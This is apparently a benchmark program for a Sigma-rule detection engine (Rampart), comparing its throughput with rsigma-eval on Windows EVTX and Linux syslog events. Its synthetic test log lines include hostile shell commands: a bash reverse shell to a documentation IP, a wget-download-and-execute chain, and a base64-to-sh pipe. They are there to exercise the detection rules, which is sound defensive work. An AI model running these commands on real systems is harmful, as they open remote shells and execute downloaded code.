//! Every detection figure in one run: Rampart's Sigma engine against rsigma-eval 0.23.0 on
//! the same pre-parsed events and rules (single thread, i.e. per core), the EVTX corpus
//! parsed alone and parsed + detected in parallel over files as `rampart hunt` does,
//! rule load figures and peak memory. Run with
//! `cargo run --release -p rampart-detect --example sigma_bench`
//! (`SIGMA_BENCH_SECS` = seconds per engine and comparison, spread over 5 interleaved
//! rounds whose median is reported, default 3; `SIGMA_BENCH_ONLY=a|b|c|p`).
#![allow(clippy::unwrap_used)]

#[path = "../tests/common/mod.rs"]
mod common;

use rampart_detect::{Engine, LoadOptions, Mappings, Matches, Routing, RuleSet};
use rampart_model::{Event, Origin, OriginKind};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

/// Events per second of `f` over `n` events, repeated for at least `min`.
fn rate(n: usize, min: Duration, mut f: impl FnMut() -> usize) -> (f64, usize) {
    let t = Instant::now();
    let mut rounds = 0;
    let mut matches = 0;
    while t.elapsed() < min || rounds == 0 {
        matches = f();
        rounds += 1;
    }
    ((n * rounds) as f64 / t.elapsed().as_secs_f64(), matches)
}

/// Measurement rounds per engine in each comparison (see `scenario`).
const ROUNDS: usize = 5;

fn median(mut v: Vec<f64>) -> f64 {
    v.sort_by(f64::total_cmp);
    v.get(v.len() / 2).copied().unwrap_or(0.0)
}

fn load_rsigma(
    dirs: &[PathBuf],
    keep: &dyn Fn(&rsigma_parser::SigmaRule) -> bool,
) -> rsigma_eval::Engine {
    let mut e = rsigma_eval::Engine::new();
    for d in dirs {
        for f in common::files(d, "yml") {
            let Ok(text) = std::fs::read_to_string(&f) else {
                continue;
            };
            let Ok(c) = rsigma_parser::parse_sigma_yaml(&text) else {
                continue;
            };
            for r in c.rules.iter().filter(|r| keep(r)) {
                let _ = e.add_rule(r);
            }
        }
    }
    e
}

fn secs() -> Duration {
    let s = std::env::var("SIGMA_BENCH_SECS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(3.0);
    Duration::from_secs_f64(s)
}

fn selected(key: &str) -> bool {
    let only = std::env::var("SIGMA_BENCH_ONLY").unwrap_or_default();
    only.is_empty() || only.split(',').any(|o| o == key)
}

/// One engine-against-engine comparison.
struct Row {
    name: &'static str,
    events: usize,
    rules: usize,
    theirs: f64,
    theirs_matches: usize,
    all: f64,
    all_matches: usize,
    routed: f64,
    routed_matches: usize,
}

fn scenario(
    name: &'static str,
    rules: &RuleSet,
    theirs: &rsigma_eval::Engine,
    nested: &[Event],
    flat: &[Value],
) -> Row {
    // The machine's speed drifts by tens of percent within a minute (other tenants), so
    // the three engines are measured in turns, ROUNDS times each, and each figure is the
    // median of its rounds: a slow spell then hits all three alike instead of whichever
    // engine happened to run during it.
    let per_round = secs().div_f64(ROUNDS as f64);
    let routed = Engine::new(rules, &Mappings::builtin());
    let all = Engine::with_routing(rules, &Mappings::builtin(), Routing::AllRules);
    let mut m = Matches::new();
    let mut run = |e: &Engine| {
        rate(nested.len(), per_round, || {
            nested
                .iter()
                .map(|ev| {
                    e.evaluate(ev, &mut m);
                    m.len()
                })
                .sum()
        })
    };
    let (mut all_rates, mut routed_rates, mut theirs_rates) = (vec![], vec![], vec![]);
    let (mut all_matches, mut routed_matches, mut theirs_matches) = (0, 0, 0);
    for _ in 0..ROUNDS {
        let (r, n) = run(&all);
        all_rates.push(r);
        all_matches = n;
        let (r, n) = run(&routed);
        routed_rates.push(r);
        routed_matches = n;
        let (r, n) = rate(flat.len(), per_round, || {
            flat.iter()
                .map(|v| theirs.evaluate(&rsigma_eval::JsonEvent::borrow(v)).len())
                .sum()
        });
        theirs_rates.push(r);
        theirs_matches = n;
    }
    let (all_rate, routed_rate, theirs_rate) = (
        median(all_rates),
        median(routed_rates),
        median(theirs_rates),
    );
    let row = Row {
        name,
        events: nested.len(),
        rules: rules.len(),
        theirs: theirs_rate,
        theirs_matches,
        all: all_rate,
        all_matches,
        routed: routed_rate,
        routed_matches,
    };
    println!("{name}: {} events, {} rules", row.events, row.rules);
    println!(
        "  rsigma-eval                 {:>12.0} ev/s  {} matches",
        row.theirs, row.theirs_matches
    );
    println!(
        "  rampart (all rules)         {:>12.0} ev/s  {} matches  x{:.1}",
        row.all,
        row.all_matches,
        row.all / row.theirs
    );
    println!(
        "  rampart (log-source routed) {:>12.0} ev/s  {} matches  x{:.1}",
        row.routed,
        row.routed_matches,
        row.routed / row.theirs
    );
    row
}

/// Parse (and optionally detect on) every EVTX file, files shared among `threads`
/// workers as `rampart hunt` shares them. Returns (events, detections, seconds).
fn evtx_pipeline(
    files: &[PathBuf],
    threads: usize,
    engine: Option<&Engine>,
) -> (usize, usize, f64) {
    let next = AtomicUsize::new(0);
    let events = AtomicUsize::new(0);
    let detections = AtomicUsize::new(0);
    let t = Instant::now();
    std::thread::scope(|s| {
        for _ in 0..threads {
            s.spawn(|| {
                let mut m = Matches::new();
                let (mut n, mut d) = (0, 0);
                loop {
                    let i = next.fetch_add(1, Ordering::Relaxed);
                    let Some(f) = files.get(i) else { break };
                    let origin = Origin::new(OriginKind::File, "bench");
                    let Ok(records) = rampart_parse::evtx::read_file(f, origin) else {
                        continue;
                    };
                    for ev in records.flatten() {
                        n += 1;
                        if let Some(e) = engine {
                            e.evaluate(&ev, &mut m);
                            d += m.len();
                        }
                    }
                }
                events.fetch_add(n, Ordering::Relaxed);
                detections.fetch_add(d, Ordering::Relaxed);
            });
        }
    });
    (
        events.into_inner(),
        detections.into_inner(),
        t.elapsed().as_secs_f64(),
    )
}

/// Peak resident set size of this process (VmHWM), in MiB.
fn peak_rss_mib() -> Option<f64> {
    let status = std::fs::read_to_string("/proc/self/status").ok()?;
    let line = status.lines().find(|l| l.starts_with("VmHWM:"))?;
    let kib: f64 = line.split_whitespace().nth(1)?.parse().ok()?;
    Some(kib / 1024.0)
}

fn linux_events(shared: &Path) -> Vec<Event> {
    let parser = match rampart_parse::Parser::new(rampart_parse::ParserConfig::default()) {
        Ok(p) => p,
        Err(e) => {
            eprintln!("parser: {e}");
            return Vec::new();
        }
    };
    let mut linux = Vec::new();
    for f in ["Linux_2k.log", "OpenSSH_2k.log"] {
        let Ok(text) = std::fs::read_to_string(shared.join("datasets/loghub").join(f)) else {
            continue;
        };
        for line in text.lines() {
            linux.push(parser.parse(line.as_bytes(), Origin::new(OriginKind::File, "bench")));
        }
    }
    // The loghub samples match no SigmaHQ Linux rule; every 20th event is replaced by a
    // line carrying a keyword some of those rules look for (sshd, named, cron, shell and
    // buffer overflow keyword rules), so that the comparison covers matching too.
    let hostile = [
        "Mar  1 10:00:01 web1 sshd[811]: error: Corrupted MAC on input.",
        "Mar  1 10:00:02 web1 sshd[812]: fatal: buffer_get_string: bad string length",
        "Mar  1 10:00:03 web1 sshd[813]: error: unexpected internal error in libcrypto",
        "Mar  1 10:00:04 ns1 named[77]: client 10.0.0.9#53: denied AXFR from 10.0.0.9",
        "Mar  1 10:00:05 ns1 named[77]: exiting (due to fatal error)",
        "Mar  1 10:00:06 web1 kernel: [1234.5] stack smashing detected: terminated",
        "Mar  1 10:00:07 web1 bash[900]: cmd: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
        "Mar  1 10:00:08 web1 bash[901]: cmd: python -m SimpleHTTPServer 8000",
        "Mar  1 10:00:09 web1 bash[902]: cmd: cd /tmp; wget http://x/a; chmod +x a; ./a",
        "Mar  1 10:00:10 web1 crontab[903]: (root) REPLACE (root)",
        "Mar  1 10:00:11 web1 bash[904]: cmd: echo d2hvYW1p | base64 -d | sh",
        "Mar  1 10:00:12 web1 sshd[814]: error: invalid certificate signing key",
    ];
    for (i, slot) in linux.iter_mut().step_by(20).enumerate() {
        *slot = parser.parse(
            hostile[i % hostile.len()].as_bytes(),
            Origin::new(OriginKind::File, "bench"),
        );
    }
    linux
}

fn main() {
    let Some(shared) = common::shared("sigma benchmark") else {
        return;
    };
    let dirs: Vec<_> = common::RULE_DIRS
        .iter()
        .map(|d| shared.join("sigma").join(d))
        .collect();

    let t = Instant::now();
    let mut rules = RuleSet::default();
    let mut failed = 0;
    for d in &dirs {
        let (set, diags) = RuleSet::load_dir(d, &LoadOptions::default());
        failed += diags.len();
        rules.extend(set);
    }
    let load = t.elapsed();
    let t = Instant::now();
    let engine = Engine::new(&rules, &Mappings::builtin());
    let build = t.elapsed();
    println!(
        "rules: {} loaded, {failed} failed; load+compile {load:.2?}; engine build {build:.2?}",
        engine.len()
    );
    let t = Instant::now();
    let theirs = load_rsigma(&dirs, &|_| true);
    println!(
        "rsigma: {} rules, load+compile {:.2?}",
        theirs.rule_count(),
        t.elapsed()
    );

    let samples = shared.join("datasets/evtx-attack-samples");
    let mut rows = Vec::new();
    if selected("a") || selected("b") {
        let events = common::evtx_events(&samples);
        let flat: Vec<Value> = events
            .iter()
            .map(|e| common::flatten_windows(&e.fields))
            .collect();
        if selected("a") {
            let is_sysmon1 = |e: &Event| {
                let sys = &e.fields["Event"]["System"];
                sys["EventID"] == 1 && sys["Channel"] == "Microsoft-Windows-Sysmon/Operational"
            };
            let (s_nested, s_flat): (Vec<Event>, Vec<Value>) = events
                .iter()
                .zip(&flat)
                .filter(|(e, _)| is_sysmon1(e))
                .map(|(e, f)| (e.clone(), f.clone()))
                .unzip();
            rows.push(scenario(
                "(a) sysmon process creation",
                &rules,
                &theirs,
                &s_nested,
                &s_flat,
            ));
        }
        if selected("b") {
            rows.push(scenario(
                "(b) all EVTX corpus events",
                &rules,
                &theirs,
                &events,
                &flat,
            ));
        }
    }
    if selected("c") {
        let linux = linux_events(&shared);
        let linux_flat: Vec<Value> = linux
            .iter()
            .map(|e| Value::Object(e.fields.clone()))
            .collect();
        let mut linux_rules = rules.clone();
        let is_linux = |p: &Option<String>| p.as_deref() == Some("linux");
        linux_rules.retain(|m| is_linux(&m.logsource.product));
        let linux_theirs = load_rsigma(&dirs, &|r| is_linux(&r.logsource.product));
        rows.push(scenario(
            "(c) linux syslog (1 in 20 with rule keywords), linux rules",
            &linux_rules,
            &linux_theirs,
            &linux,
            &linux_flat,
        ));
    }

    let mut pipeline = None;
    if selected("p") {
        let files = common::files(&samples, "evtx");
        let threads = std::env::var("SIGMA_BENCH_THREADS")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| std::thread::available_parallelism().map_or(1, |n| n.get()));
        // Warm the page cache so both runs read from memory.
        evtx_pipeline(&files, threads, None);
        let parse = evtx_pipeline(&files, threads, None);
        let detect = evtx_pipeline(&files, threads, Some(&engine));
        pipeline = Some((files.len(), threads, parse, detect));
    }

    println!("\n== summary (rsigma-eval 0.23.0 vs Rampart, same events and rules, one thread)");
    println!(
        "set                               events  rules  rsigma ev/s     all ev/s   ratio  routed ev/s   ratio  matches rsigma/all/routed"
    );
    for r in &rows {
        println!(
            "{:<32} {:>7} {:>6} {:>12.0} {:>12.0} {:>6.1}x {:>12.0} {:>6.1}x  {}/{}/{}{}",
            r.name,
            r.events,
            r.rules,
            r.theirs,
            r.all,
            r.all / r.theirs,
            r.routed,
            r.routed / r.theirs,
            r.theirs_matches,
            r.all_matches,
            r.routed_matches,
            if r.theirs_matches == r.all_matches {
                " (equal)"
            } else {
                " (DIFFERENT)"
            }
        );
    }
    if let Some((n_files, threads, parse, detect)) = pipeline {
        println!("\n== EVTX corpus as `rampart hunt` runs it ({n_files} files, {threads} threads)");
        println!(
            "parse only:      {:>7} events in {:>6.2}s  {:>9.0} ev/s",
            parse.0,
            parse.2,
            parse.0 as f64 / parse.2
        );
        println!(
            "parse + detect:  {:>7} events in {:>6.2}s  {:>9.0} ev/s  {} detections; detection adds {:.0}% to parsing",
            detect.0,
            detect.2,
            detect.0 as f64 / detect.2,
            detect.1,
            100.0 * (detect.2 - parse.2) / parse.2
        );
    }
    println!(
        "\nrules: {} loaded, {failed} failed; load+compile {:.2}s; engine build {:.2}s",
        engine.len(),
        load.as_secs_f64(),
        build.as_secs_f64()
    );
    match peak_rss_mib() {
        Some(m) => println!("peak RSS (VmHWM, whole run incl. rsigma and flat copies): {m:.0} MiB"),
        None => println!("peak RSS: unavailable (no /proc/self/status)"),
    }
}
